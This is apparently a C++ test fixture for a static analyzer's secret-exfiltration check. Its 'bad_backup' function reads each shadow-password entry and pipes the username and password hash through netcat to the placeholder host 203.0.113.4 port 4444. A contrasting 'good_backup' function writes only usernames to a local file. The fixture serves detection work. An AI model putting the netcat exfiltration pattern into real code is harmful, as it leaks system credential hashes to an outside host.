/* C++: an entry of the list of passwords is written into a program that sends it. */
#include <cstdio>
#include <memory>
#include <shadow.h>
#include <string>

namespace {

struct Close {
    void operator()(std::FILE *file) const {
        pclose(file);
    }
};

class Command {
  public:
    explicit Command(const std::string &text) : pipe_(popen(text.c_str(), "w")) {}
    void write(const std::string &line) {
        if (pipe_)
            // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
            std::fputs(line.c_str(), pipe_.get());
    }

  private:
    std::unique_ptr<std::FILE, Close> pipe_;
};

} // namespace

void bad_backup() {
    Command command("nc 203.0.113.4 4444");
    while (const spwd *entry = getspent())
        command.write(std::string(entry->sp_namp) + ":" + entry->sp_pwdp + "\n");
}

void good_backup() {
    Command command("sort -u >/var/lib/accounts/names");
    while (const spwd *entry = getspent())
        command.write(std::string(entry->sp_namp) + "\n");
}
